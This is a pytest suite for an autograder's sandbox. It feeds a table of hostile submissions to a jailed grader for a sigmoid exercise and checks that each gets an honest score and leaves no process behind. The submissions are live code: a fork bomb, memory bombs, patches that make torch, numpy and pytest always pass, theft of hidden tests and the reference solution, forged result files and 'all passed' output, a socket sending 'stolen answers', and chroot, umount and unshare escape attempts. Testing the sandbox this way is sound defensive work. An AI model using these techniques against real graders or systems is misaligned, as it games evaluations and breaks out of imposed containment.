"""Hostile submissions: each ends with its honest verdict, earns no points it did not earn,
finishes within the time limit plus one second and leaves no process behind.

They run against a copy of sigmoid-basics with short limits, through one warm ``Grader``
(one zygote), exactly as `grader exercise grade-all` would run them.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from grader.exercise.load import load_exercise
from grader.report.model import Result
from grader.runner.judge import Grader, janitor
from grader.runner.judge.session import WALL_FACTOR, WALL_SLACK_S

REPO = Path(__file__).resolve().parents[2]
EXERCISE = REPO / "exercises" / "sigmoid-basics"
TOTAL_S = 8.0
HIDDEN_MARKER = "HIDDEN-TESTS-MARKER-5e1f"
SOLUTION_MARKER = "REFERENCE-SOLUTION-MARKER-93ac"
DAEMON_TOKEN = "4321.987"

LIMITS = f"""
id: sigmoid-basics
title: hostile copy
entry: sigmoid.py
limits: {{time_s: 1.0, total_time_s: {TOTAL_S}, memory_mb: 128, processes: 16, output_kb: 16}}
"""

CORRECT = """
import torch

def sigmoid(x):
    z = torch.exp(-torch.abs(x))
    return torch.where(x >= 0, 1 / (1 + z), z / (1 + z))

def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1 - s)

def chain_derivative(x, depth):
    g, a = torch.ones_like(x), x
    for _ in range(depth):
        g, a = g * sigmoid_derivative(a), sigmoid(a)
    return g
"""

# sigmoid misbehaves; the derivative is right on its own (4 points), the chain is wrong.
BAD_SIGMOID = """
import torch

def sigmoid_derivative(x):
    s = 1 / (1 + torch.exp(-x.clamp(-500, 500)))
    return s * (1 - s)

def chain_derivative(x, depth):
    return torch.full((7,), 0.3)

def sigmoid(x):
{body}
"""

SIGMOID_TESTS = {
    "test_sigmoid_at_zero",
    "test_sigmoid_keeps_shape_and_dtype",
    "test_sigmoid_matches_reference",
    "test_sigmoid_is_stable_for_large_inputs",
}


def bad_sigmoid(body: str, prelude: str = "") -> str:
    indented = "\n".join("    " + line for line in body.strip().splitlines())
    return prelude + BAD_SIGMOID.format(body=indented)


@dataclass
class Env:
    grader: Grader
    exercise_copy: Path
    drop: Path  # a world-writable host folder a jail must still not write to
    port: int
    received: list[bytes]


@pytest.fixture(scope="module")
def env() -> Iterator[Env]:
    yield from _env(None)


@pytest.fixture(scope="module")
def env_userns() -> Iterator[Env]:
    """The same, with the jail built in a user namespace (as the grader does without root)."""
    yield from _env("userns")


def _env(max_level: str | None) -> Iterator[Env]:
    base = Path(tempfile.mkdtemp(prefix="hostile-exercise-"))
    base.chmod(0o755)  # world-readable on purpose: only the sandbox may keep secrets secret
    copy = base / "sigmoid-basics"
    shutil.copytree(EXERCISE, copy)
    (copy / "exercise.yaml").write_text(LIMITS)
    with (copy / "solution" / "sigmoid.py").open("a") as f:
        f.write(f"\n# {SOLUTION_MARKER}\n")
    with (copy / "tests" / "hidden" / "test_sigmoid_hidden.py").open("a") as f:
        f.write(f"\n# {HIDDEN_MARKER}\n")
    for path in copy.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    drop = base / "drop"
    drop.mkdir()
    drop.chmod(0o777)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            received.append(conn.recv(100) or b"<connected>")
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    grader = Grader(load_exercise(copy), max_level=max_level)
    try:
        yield Env(grader, copy, drop, listener.getsockname()[1], received)
    finally:
        grader.close()
        stop.set()
        thread.join()
        listener.close()
        shutil.rmtree(base, ignore_errors=True)


def _descendants(pid: int) -> set[int]:
    tree: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                stat_line = Path("/proc", entry, "stat").read_text()
            except OSError:
                continue
            tree.setdefault(int(stat_line.rsplit(")", 1)[1].split()[1]), []).append(int(entry))
    out, todo = set(), [pid]
    while todo:
        for child in tree.get(todo.pop(), []):
            out.add(child)
            todo.append(child)
    return out


def _uid(pid: int) -> int | None:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("Uid:"):
                return int(line.split()[2])  # effective
    except OSError:
        pass
    return None


def spare_trees(zygote: int) -> list[set[int]]:
    """The zygote's spares now (see grader/runner/jail/spares.py): each supervisor with its
    waiting jail, all still root, which no jail that ran student code is at the
    ``namespaces`` level (each gets a uid of its own first)."""
    trees = []
    for child in (p for p in _descendants(zygote) if _parent(p) == zygote):
        tree = {child, *_descendants(child)}
        if len(tree) == 2 and all(_uid(p) == 0 for p in tree):
            trees.append(tree)
    return trees


def _jails_left(zygote: int) -> set[int]:
    """The zygote's descendants, but for its spare jails, of which it keeps at most
    ``spares.COUNT``."""
    from grader.runner.jail import spares

    left = _descendants(zygote)
    spares_now = spare_trees(zygote)
    assert len(spares_now) <= spares.COUNT, spares_now
    for tree in spares_now:
        left -= tree
    return left


def _parent(pid: int) -> int | None:
    try:
        return int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return None


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path("/proc", entry, "cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if token.encode() in cmd and b"pytest" not in cmd:
                found.append(int(entry))
    return found


def grade(env: Env, source: str) -> tuple[Result, float]:
    folder = Path(tempfile.mkdtemp(prefix="grader-hostile-sub-"))
    try:
        (folder / "sigmoid.py").write_text(source)
        started = time.monotonic()
        result = env.grader.grade(folder)
        elapsed = time.monotonic() - started
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    # Nothing may be left behind: the zygote has no children once a grade returns.
    deadline = time.monotonic() + 2
    while _jails_left(env.grader.zygote.pid) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not _jails_left(env.grader.zygote.pid), "a jail process outlived its grading"
    # Limits are CPU time; the wall clock backs them up at WALL_FACTOR times, plus slack.
    assert elapsed <= TOTAL_S * WALL_FACTOR + WALL_SLACK_S + 1.0, f"grading took {elapsed:.2f}s"
    return result, elapsed


def statuses(result: Result) -> dict[str, str]:
    return {t.id.split("::")[1]: t.status for t in result.tests}  # type: ignore[union-attr]


def expect_bad_sigmoid(result: Result, status: str) -> None:
    """The sigmoid tests get ``status``; the (correct) derivative tests still earn 4 points."""
    got = statuses(result)
    assert {k for k, v in got.items() if v == status} == SIGMOID_TESTS, got
    assert result.score == 4.0, got
    assert got["test_derivative_matches_autograd"] == "passed"


def expect_all(result: Result, status: str) -> None:
    assert set(statuses(result).values()) == {status}, statuses(result)
    assert result.score == 0.0


# -- the hostile submissions -------------------------------------------------------------------


HOSTILE: dict[str, tuple[str, Callable[[Result, Env], None]]] = {
    "infinite loop": (
        bad_sigmoid("while True:\n    pass"),
        lambda r, e: (
            expect_bad_sigmoid(r, "timeout"),
            _assert_in("sigmoid() used more than its 1 s of CPU time", r.tests[0].message),
        ),
    ),
    "infinite loop at import": (
        "while True:\n    pass\n" + CORRECT,
        lambda r, e: expect_all(r, "timeout"),
    ),
    "fork bomb": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
        + CORRECT,
        lambda r, e: expect_all(r, "timeout"),
    ),
    "memory bomb": (
        bad_sigmoid("keep = []\nwhile True:\n    keep.append(bytearray(10**7))"),
        lambda r, e: expect_bad_sigmoid(r, "memory"),
    ),
    "one huge allocation at import": (
        "import torch\nBIG = torch.ones(10**10)\n" + CORRECT,
        lambda r, e: expect_all(r, "memory"),
    ),
    "endless output": (
        "import sys\nwhile True:\n    sys.stdout.write('all tests passed ' * 1000)\n" + CORRECT,
        lambda r, e: (expect_all(r, "timeout"), _assert_capped(r)),
    ),
    "twenty megabytes of output, then correct code": (
        "import os\nfor _ in range(20):\n    os.write(1, b'8 passed, 0 failed\\n' * 55000)\n"
        + CORRECT,
        lambda r, e: (_assert_full_marks(r), _assert_capped(r)),
    ),
    "os._exit(0) at import": (
        "import os\nos._exit(0)\n" + CORRECT,
        lambda r, e: expect_all(r, "crashed"),
    ),
    "sys.exit(0) at import": (
        "import sys\nsys.exit(0)\n" + CORRECT,
        lambda r, e: (expect_all(r, "error"), _assert_in("SystemExit", r.tests[0].message)),
    ),
    "monkeypatching numpy, torch, builtins and the test framework": (
        """
import builtins, math
import numpy as np
import torch
yes = lambda *a, **k: True
torch.allclose = torch.equal = torch.isclose = np.allclose = np.array_equal = math.isclose = yes
np.testing.assert_allclose = lambda *a, **k: None
try:  # the jail has no grader package to patch (its source is not even visible)
    import grader.exercise.api as api
    api.assert_close = lambda *a, **k: None
except ImportError:
    pass
torch.Tensor.__eq__ = yes
builtins.AssertionError = type("Nope", (Exception,), {})
try:
    import pytest
    pytest.approx = lambda *a, **k: 0.5
except ImportError:
    pass
def sigmoid(x): return torch.full((7,), 0.3)
def sigmoid_derivative(x): return torch.full_like(x, 0.3)
def chain_derivative(x, depth): return torch.full_like(x, 0.3)
""",
        lambda r, e: expect_all(r, "failed"),
    ),
    "return values whose __eq__ is always true": (
        """
import torch
class Anything:
    def __eq__(self, other): return True
    def __float__(self): return 0.5
    def __array__(self, *a, **k): raise RuntimeError
    shape = (2, 3)
    dtype = torch.float64
class Liar(torch.Tensor):
    def __eq__(self, other): return torch.ones_like(other, dtype=torch.bool)
    def allclose(self, *a, **k): return True
def sigmoid(x): return Anything()
def sigmoid_derivative(x): return torch.full_like(x, 0.3).as_subclass(Liar)
def chain_derivative(x, depth): return Anything()
""",
        lambda r, e: expect_all(r, "failed"),
    ),
    "reading the reference solution and hidden tests": (
        """
import gc, os, sys
found = []
for root in (%(copy)r, %(repo)r):
    for rel in ("solution/sigmoid.py", "tests/hidden/test_sigmoid_hidden.py"):
        try:
            found.append(open(os.path.join(root, rel)).read())
        except OSError as exc:
            print("cannot read", rel, type(exc).__name__)
for top in ("/", "/tmp", "/root", "/work"):
    for dirpath, dirnames, filenames in os.walk(top):
        system = ("/proc", "/sys", "/usr", "/dev", "/etc", "/lib", "/bin", "/sbin")
        if dirpath.startswith(system) or "python3" in dirpath or ".pyenv" in dirpath:
            dirnames[:] = []
            continue
        for name in filenames:
            secret = name == "sigmoid.py" and "solution" in dirpath
            if secret or name == "test_sigmoid_hidden.py":
                try:
                    found.append(open(os.path.join(dirpath, name)).read())
                except OSError:
                    pass
for name, mod in list(sys.modules.items()):
    if name.startswith(("grader_reference", "grader_tests")):
        found.append("module " + name)
import types
for obj in gc.get_objects():
    if type(obj) is not types.FunctionType:
        continue
    name, where = obj.__name__, obj.__code__.co_filename
    if "site-packages" in where:
        continue  # a library's own function that happens to share a name
    if name.startswith(("test_sigmoid", "test_derivative", "test_chain")):
        found.append("function " + name)
print("found", len(found), "secrets")
print("".join(found))
namespace = {}
for text in found:
    try:
        exec(text, namespace)
    except Exception:
        pass
import torch
sigmoid = namespace.get("sigmoid", lambda x: torch.full((7,), 0.3))
sigmoid_derivative = namespace.get("sigmoid_derivative", lambda x: torch.full_like(x, 0.3))
chain_derivative = namespace.get("chain_derivative", lambda x, d: torch.full_like(x, 0.3))
""",
        lambda r, e: (
            expect_all(r, "failed"),
            _assert_in("found 0 secrets", r.output),
            _assert_not_in(HIDDEN_MARKER, r.output),
            _assert_not_in(SOLUTION_MARKER, r.output),
        ),
    ),
    "writing fake result files": (
        """
import json, os
fake = json.dumps({"score": 12, "max_score": 12, "status": "passed", "tests": []})
for path in ("results.json", "/tmp/results.json", "/autograder/results/results.json",
             os.path.join(%(drop)r, "results.json"), %(copy)r + "/solution/sigmoid.py"):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as f:
            f.write(fake)
        print("wrote", path)
    except OSError as exc:
        print("could not write", path, type(exc).__name__)
import torch
def sigmoid(x): return torch.full((7,), 0.3)
def sigmoid_derivative(x): return torch.full_like(x, 0.3)
def chain_derivative(x, depth): return torch.full_like(x, 0.3)
""",
        lambda r, e: (
            expect_all(r, "failed"),
            _assert_no_file(e.drop / "results.json"),
            _assert_in(SOLUTION_MARKER, (e.exercise_copy / "solution" / "sigmoid.py").read_text()),
        ),
    ),
    "opening a socket": (
        """
import socket
for address in (("127.0.0.1", %(port)d), ("8.8.8.8", 53)):
    try:
        s = socket.socket(socket.AF_INET)
        s.settimeout(0.2)
        s.connect(address)
        s.sendall(b"stolen answers")
        print("connected to", address)
    except OSError as exc:
        print("no network:", type(exc).__name__)
"""
        + CORRECT,
        lambda r, e: (_assert_full_marks(r), _assert_equal(e.received, [])),
    ),
    "segfault through ctypes": (
        bad_sigmoid("ctypes.string_at(0)", "import ctypes\n"),
        lambda r, e: (
            expect_bad_sigmoid(r, "crashed"),
            _assert_in("SIGSEGV", r.tests[0].message),
        ),
    ),
    "recursion bomb": (
        bad_sigmoid(
            "sys.setrecursionlimit(10**7)\n"
            "def down(n):\n    return down(n + 1) + 1\nreturn down(0)",
            "import sys\n",
        ),
        lambda r, e: (
            _assert_equal(r.score, 4.0),
            _assert_equal(
                {statuses(r)[t] for t in SIGMOID_TESTS} - {"crashed", "error", "memory"}, set()
            ),
        ),
    ),
    "a daemon that outlives the run": (
        f"""
import os
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "{DAEMON_TOKEN}"])
    os._exit(0)
"""
        + CORRECT,
        lambda r, e: (_assert_full_marks(r), _assert_equal(_processes_with(DAEMON_TOKEN), [])),
    ),
    "ignoring SIGTERM while looping": (
        bad_sigmoid(
            "for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
            "    signal.signal(sig, signal.SIG_IGN)\nwhile True:\n    pass",
            "import signal\n",
        ),
        lambda r, e: expect_bad_sigmoid(r, "timeout"),
    ),
    "printing a fake 'all passed'": (
        """
import sys, torch
print("============ 8 passed in 0.01s ============")
print('{"score": 12.0, "max_score": 12.0, "status": "passed"}')
sys.stderr.write("Score: 12/12 - all tests passed\\n")
def sigmoid(x):
    print("PASSED test_sigmoid_at_zero")
    return torch.full((7,), 0.3)
def sigmoid_derivative(x): return torch.full_like(x, 0.3)
def chain_derivative(x, depth): return torch.full_like(x, 0.3)
""",
        lambda r, e: (expect_all(r, "failed"), _assert_in("8 passed", r.output)),
    ),
    "forging protocol frames": (
        """
import os, struct, json
head = json.dumps({"ok": 0.5}).encode()
frame = struct.pack(">I", len(head) + 4) + struct.pack(">I", len(head)) + head
for fd in range(3, 64):
    try:
        os.write(fd, frame + b"\\xff" * 64)
    except OSError:
        pass
"""
        + CORRECT,
        lambda r, e: _assert_equal(
            r.score < 12.0 and r.status in ("error", "failed", "crashed"), True
        ),
    ),
    "killing everything it can see": (
        "import os, signal\nfor pid in (-1, os.getppid(), 1):\n"
        "    try:\n        os.kill(pid, signal.SIGKILL)\n"
        "    except OSError:\n        pass\n" + CORRECT,
        # Inside its PID namespace it is PID 1 (immune to its own SIGKILL) and the
        # supervisor is root: nobody is hurt, so the honest verdict is full marks.
        lambda r, e: _assert_full_marks(r),
    ),
    "undoing the jail with namespace powers": (
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
done = []
with open("/proc/self/mounts") as f:
    points = [line.split()[1] for line in f]
for point in reversed(points):  # uncover a secret: unmount, innermost first
    if libc.umount2(point.encode(), 2) == 0:
        done.append("umount " + point)
try:  # the classic way out of a chroot
    os.makedirs("/tmp/out", exist_ok=True)
    os.chroot("/tmp/out")
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    done.append("chroot")
except OSError:
    pass
for flag in (0x10000000, 0x00020000):  # a new user namespace, a new mount namespace
    if libc.unshare(flag) == 0:
        done.append("unshare " + hex(flag))
if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
    done.append("mount")
with open("/proc/self/status") as f:
    caps = [line.split()[1] for line in f if line.startswith("CapEff")]
print("capabilities", caps, "escapes", done)
"""
        + CORRECT,
        lambda r, e: (
            _assert_full_marks(r),
            _assert_in("capabilities ['0000000000000000'] escapes []", r.output),
        ),
    ),
    "returning something too deep to send": (
        bad_sigmoid("out = []\nfor _ in range(10000):\n    out = [out]\nreturn out"),
        lambda r, e: expect_bad_sigmoid(r, "error"),
    ),
}


def _assert_in(needle: str, hay: str) -> None:
    assert needle in hay, hay[-500:]


def _assert_not_in(needle: str, hay: str) -> None:
    assert needle not in hay


def _assert_equal(a: object, b: object) -> None:
    assert a == b


def _assert_no_file(path: Path) -> None:
    assert not path.exists(), f"the jail wrote {path}"


def _assert_full_marks(r: Result) -> None:
    assert r.score == 12.0 and r.status == "passed", statuses(r)


def _assert_capped(r: Result) -> None:
    assert len(r.output.encode()) <= 16 * 1024 + 200


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_submission(env: Env, name: str) -> None:
    if os.geteuid() != 0 or env.grader.max_level != "namespaces":
        pytest.skip("the full hostile suite needs the namespaces level (root on Linux)")
    source, check = HOSTILE[name]
    source = (
        source
        % {
            "copy": str(env.exercise_copy),
            "repo": str(EXERCISE),
            "drop": str(env.drop),
            "port": env.port,
        }
        if "%(" in source
        else source
    )
    result, _elapsed = grade(env, source)
    assert result.isolation == "namespaces"
    assert result.score <= result.max_score
    check(result, env)


def _userns_refused() -> str | None:
    from grader.runner.jail.sandbox import probe_userns
    from grader.runner.limits import JailSpec

    with tempfile.TemporaryDirectory() as tmp:
        for name in ("files", "root"):
            os.mkdir(os.path.join(tmp, name))
        os.chmod(tmp, 0o755)
        return probe_userns(JailSpec(scratch=tmp + "/files", root=tmp + "/root", entry="x.py"))


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_submission_in_a_user_namespace(env_userns: Env, name: str) -> None:
    """Every hostile submission again at the ``userns`` level, the one a grader without root
    gets. As root the supervisor turns into ``nobody`` before it makes the user namespace,
    so the jail holds exactly what it would hold on an unprivileged machine."""
    if sys.platform != "linux" or _userns_refused():
        pytest.skip(f"user namespaces are refused here: {_userns_refused()}")
    env = env_userns
    source, check = HOSTILE[name]
    values = {"copy": str(env.exercise_copy), "repo": str(EXERCISE), "drop": str(env.drop)}
    source = source % {**values, "port": env.port} if "%(" in source else source
    result, _elapsed = grade(env, source)
    assert result.isolation == "userns", result.extra["sandbox"]
    assert result.extra["sandbox"]["seccomp"] is True
    assert result.score <= result.max_score
    if name == "recursion bomb":
        # No memory cgroup here: RLIMIT_AS raises MemoryError millions of frames deep, and
        # unwinding them can outlast the limit. Still honest: only sigmoid's points are lost.
        assert result.score == 4.0
        assert {statuses(result)[t] for t in SIGMOID_TESTS} <= {
            "crashed",
            "error",
            "memory",
            "timeout",
        }
        return
    check(result, env)


def test_the_suite_has_at_least_fifteen_hostile_submissions() -> None:
    assert len(HOSTILE) >= 15


def test_fake_output_never_reaches_the_cli_report(tmp_path: Path) -> None:
    """The printed 'all passed' goes into the captured output field, nowhere else."""
    source, _ = HOSTILE["printing a fake 'all passed'"]
    sub = tmp_path / "sigmoid.py"
    sub.write_text(source)
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "grader",
            "exercise",
            "grade",
            str(EXERCISE),
            str(sub),
            "--format",
            "json",
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 1, proc.stderr
    data = json.loads(proc.stdout)  # stdout is exactly one JSON document
    assert data["score"] == 0.0 and data["status"] == "failed"
    assert "8 passed" in data["output"]


def test_scratch_folders_are_not_left_on_the_host(
    env: Env, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A temporary folder of this test's own: another xdist worker grades beside it.
    private = Path(tempfile.mkdtemp(prefix="scratch-check-"))
    private.chmod(0o755)
    monkeypatch.setattr(tempfile, "tempdir", str(private))
    handed: list[Path] = []
    real = janitor.remove_later
    monkeypatch.setattr(janitor, "remove_later", lambda f: (handed.append(f), real(f)))
    try:
        grade(env, CORRECT)
        janitor.wait()  # removed behind the judge's back; gone once the janitor is idle
        assert handed and all(f.parent == private for f in handed), handed
        assert list(private.iterdir()) == []
    finally:
        monkeypatch.undo()
        shutil.rmtree(private, ignore_errors=True)
    assert stat.S_IMODE(env.drop.stat().st_mode) == 0o777


def test_a_process_that_loaded_secrets_first_still_gets_a_clean_jail(tmp_path: Path) -> None:
    """If hidden tests are imported before the first Grader, the zygote is a fresh
    interpreter (not a fork of the tainted process), so jails still find nothing."""
    source, _ = HOSTILE["reading the reference solution and hidden tests"]
    sub = tmp_path / "sub"
    sub.mkdir()
    values = {"copy": str(EXERCISE), "repo": str(EXERCISE), "drop": str(tmp_path), "port": 9}
    (sub / "sigmoid.py").write_text(source % values)
    script = f"""
from pathlib import Path
from grader.exercise.load import load_exercise
from grader.runner.judge.collect import collect, load_reference
from grader.runner.judge import Grader
ex = load_exercise({str(EXERCISE)!r})
collect(ex, include_hidden=True), load_reference(ex)  # secrets first
with Grader(ex) as grader:
    assert grader.zygote.popen is not None, "expected a fresh zygote"
    result = grader.grade(Path({str(sub)!r}))
print(result.output)
"""
    proc = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr
    assert "found 0 secrets" in proc.stdout


@pytest.mark.parametrize("level", ["uid", "rlimits"])
def test_no_network_below_the_namespaces_level_either(env: Env, level: str, tmp_path: Path) -> None:
    """Without a network namespace, the seccomp filter still refuses every non-Unix socket."""
    if level == "uid" and os.geteuid() != 0:
        pytest.skip("the uid level needs root")
    source, _ = HOSTILE["opening a socket"]
    values = {"copy": "", "repo": "", "drop": "", "port": env.port}
    (tmp_path / "sigmoid.py").write_text(source % values)
    with Grader(load_exercise(env.exercise_copy), max_level=level) as grader:
        result = grader.grade(tmp_path)
    assert result.isolation == level and result.extra["sandbox"]["seccomp"] is True
    assert result.score == 12.0 and env.received == []
    assert result.output.count("no network: PermissionError") == 2
